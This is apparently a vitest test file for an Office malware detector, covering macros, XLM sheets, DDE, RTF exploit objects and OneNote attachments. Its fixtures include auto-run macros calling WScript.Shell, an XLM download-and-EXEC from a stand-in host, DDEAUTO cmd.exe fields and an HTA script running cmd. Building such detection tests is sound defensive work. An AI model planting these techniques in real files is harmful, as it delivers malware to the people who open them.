import { describe, expect, it } from 'vitest';
import { zipOf } from '../../source/demo/samples.ts';
import { macroDoc, oleFile } from './fixture.ts';
import { officeAnalyzer, officeFacts, officeFindings } from './office.ts';
import { rtfSignals } from './rtf.ts';
import { biffXlm, xlmSignals } from './xlm.ts';

const rules = (bytes: Buffer) => officeFindings(officeFacts(bytes)).map((f) => f.rule);
const source = (body: string) => `Attribute VB_Name = "Module1"\r\n${body}`;

/** A BIFF8 record. */
const record = (type: number, data: Buffer) => Buffer.concat([Buffer.from([type & 0xff, type >> 8, data.length & 0xff, data.length >> 8]), data]);
const boundSheet = (name: string, state: number, type: number) => record(0x85, Buffer.concat([Buffer.alloc(4), Buffer.from([state, type, name.length, 0]), Buffer.from(name, 'latin1')]));
const builtinName = (code: number) => {
  const data = Buffer.alloc(16);
  data.writeUInt16LE(0x20, 0);
  data[3] = 1;
  data[15] = code;
  return record(0x18, data);
};
/** A FORMULA record calling a function by number (ptgFuncVar). */
const formula = (fn: number) => {
  const rgce = Buffer.from([0x42, 1, fn & 0xff, fn >> 8]);
  const data = Buffer.alloc(22 + rgce.length);
  data.writeUInt16LE(rgce.length, 20);
  rgce.copy(data, 22);
  return record(0x06, data);
};

describe('Office techniques', () => {
  it('an auto-exec macro alone is suspicious; with execution it is malicious; benign API use stays clean', () => {
    expect(rules(macroDoc(source('Sub Document_Open()\r\n  MsgBox "hi"\r\nEnd Sub\r\n')))).toContain('office.score.suspicious');
    expect(rules(macroDoc(source('Sub Workbook_Open()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n')))).toContain('office.score.malicious');
    const benign = source('Private Declare Sub RtlMoveMemory Lib "kernel32" (d As Any, s As Any, ByVal n As Long)\r\nSub Decode()\r\n  s = Chr(65) & Chr(66)\r\n  ExecuteExcel4Macro ("Calc!Auto_Open()")\r\nEnd Sub\r\n');
    expect(rules(macroDoc(benign))).toEqual(['office.macros', 'office.macro.late-call']);
  });

  it('weighs hidden strings, computed classes and decoding loops', () => {
    const body = 'Sub Go()\r\n  Set o = CreateObject(decode("1 2 3"))\r\n  x = Chr(CInt(p(i)) - 30)\r\n  s = Me.A.Caption + Me.B.Caption\r\nEnd Sub\r\n';
    expect(rules(macroDoc(source(body)))).toEqual(expect.arrayContaining(['office.macro.dynamic-object', 'office.macro.hidden-strings', 'office.macro.obfuscated', 'office.score.suspicious']));
  });

  it('a very hidden XLM sheet with Auto_Open calling EXEC is malicious; a plain Auto_Open sheet is not', () => {
    const bad = biffXlm(Buffer.concat([boundSheet('M', 2, 1), builtinName(1), formula(110)]));
    expect(bad.calls).toEqual(new Set(['EXEC']));
    const badRules = xlmSignals(bad).map((s) => s.rule);
    expect(badRules).toEqual(['office.xlm.macrosheet', 'office.xlm.auto-open', 'office.xlm.hidden', 'office.xlm.calls']);
    const clean = xlmSignals(biffXlm(Buffer.concat([boundSheet('Macro1', 1, 1), builtinName(1)])));
    expect(clean.reduce((sum, s) => sum + s.weight, 0)).toBeLessThan(6);
  });

  it('flags OOXML macro sheets that auto-open and call out, DDE fields and =cmd| cells', () => {
    const xlsm = zipOf([
      ['[Content_Types].xml', '<Types/>'],
      ['xl/workbook.xml', '<workbook><sheets><sheet name="S" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">S!$A$1</definedName></definedNames></workbook>'],
      ['xl/macrosheets/sheet1.xml', '<c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x/a","c:\\a.exe",0,0)</f></c><c><f>EXEC("c:\\a.exe")</f></c>'],
    ]);
    expect(rules(xlsm)).toContain('office.score.malicious');
    const docx = zipOf([['word/document.xml', '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>']]);
    expect(rules(docx)).toEqual(['office.dde', 'office.score.malicious']);
    const xlsx = zipOf([['xl/worksheets/sheet1.xml', '<c><f>=cmd|\' /c calc\'!A0</f></c>']]);
    expect(rules(xlsx)).toContain('office.dde');
  });

  it('finds Equation Editor objects and objupdate in RTF; a plain RTF is clean', () => {
    const className = Buffer.from('Equation.3\0', 'latin1');
    const header = Buffer.alloc(12);
    header.writeUInt32LE(0x501, 0);
    header.writeUInt32LE(2, 4);
    header.writeUInt32LE(className.length, 8);
    const hex = Buffer.concat([header, className, Buffer.alloc(12)]).toString('hex');
    const rtf = Buffer.from(`{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata ${hex.slice(0, 10)}{\\*\\junk}\n${hex.slice(10)}}}}`, 'latin1');
    expect(rtfSignals(rtf).map((s) => s.rule)).toEqual(expect.arrayContaining(['office.rtf.objupdate', 'office.rtf.exploit-class']));
    expect(rules(Buffer.from('{\\rtf1\\ansi Hello \\par}', 'latin1'))).toEqual([]);
  });

  it('finds a hex blob outside objects in one pass: short hex runs in a large RTF do not cost a scan per start', () => {
    const blob = (run: number, gap: string) => Buffer.from(`{\\rtf1 ${`${'0a1b 2c3d\n'.repeat(run / 10)}${gap}`.repeat(4)}}`, 'latin1');
    expect(rtfSignals(blob(500_000, '')).map((s) => s.rule)).toContain('office.rtf.hex-blob');
    // Four runs of 400,000 just short of the threshold: the old pattern backtracked over each start, minutes per file.
    expect(rtfSignals(blob(400_000, '\\par ')).map((s) => s.rule)).not.toContain('office.rtf.hex-blob');
  });

  it('flags a remote oleObject relationship and an encrypted compound file signal stays low alone', () => {
    const docx = zipOf([
      ['word/document.xml', '<w:document/>'],
      ['word/_rels/document.xml.rels', '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="https://198.51.100.9/x.doc" TargetMode="External"/></Relationships>'],
    ]);
    expect(rules(docx)).toEqual(['office.external-object', 'office.score.suspicious']);
  });
});

describe('Office techniques in compound files', () => {
  it('flags a payload in document properties and PostScript in a Hangul document', () => {
    const base64 = Buffer.from('TVqQAAMAAAAEAAAA'.repeat(400), 'latin1');
    expect(rules(oleFile([['\u0005DocumentSummaryInformation', base64], ['WordDocument', Buffer.alloc(100)]]))).toEqual(['office.properties-payload', 'office.score.suspicious']);
    expect(rules(oleFile([['BinData/BIN0001.ps', Buffer.from('%!PS')], ['FileHeader', Buffer.alloc(256)]]))).toEqual(['office.hwp.postscript', 'office.score.suspicious']);
    expect(rules(oleFile([['\u0005SummaryInformation', Buffer.alloc(4096)], ['WordDocument', Buffer.alloc(100)]]))).toEqual([]);
  });
});

describe('OneNote sections and installers', () => {
  /** A .one section holding one FileDataStoreObject with `data`: magic, the block's GUID, its size, then the file. */
  const oneNote = (data: Buffer, name: string) => {
    const header = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)]);
    const size = Buffer.alloc(20);
    size.writeBigUInt64LE(BigInt(data.length));
    return Buffer.concat([header, Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'), size, data, Buffer.from(name, 'utf16le'), Buffer.alloc(32)]);
  };

  it('flags a note that attaches a script or a program behind its page, and leaves one with a picture clean', () => {
    expect(rules(oneNote(Buffer.from('<script language="VBScript">CreateObject("WScript.Shell").Run "cmd"</script>'), 'open.hta'))).toEqual(expect.arrayContaining(['office.onenote.embedded-script', 'office.onenote.runnable-name']));
    expect(rules(oneNote(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0'), Buffer.alloc(200)]), 'invoice.exe'))).toContain('office.score.malicious');
    expect(rules(oneNote(Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 'photo.png')).filter((r) => r.startsWith('office.score'))).toEqual([]);
  });

  it('takes an MSI (an OLE file of installer tables) whatever MIME it came with', () => {
    const msi = oleFile([['\u4840\u3f3f\u4577\u6c6c', Buffer.from('tables')], ['\u0005SummaryInformation', Buffer.alloc(64)]]);
    expect(officeAnalyzer.accepts({ bytes: msi, size: msi.length, truncated: false, path: 'x.msi', name: 'x.msi', mime: 'application/x-msi', realMime: 'application/x-msi', hashes: { md5: '', sha1: '', sha256: '' } })).toBe(true);
  });
});
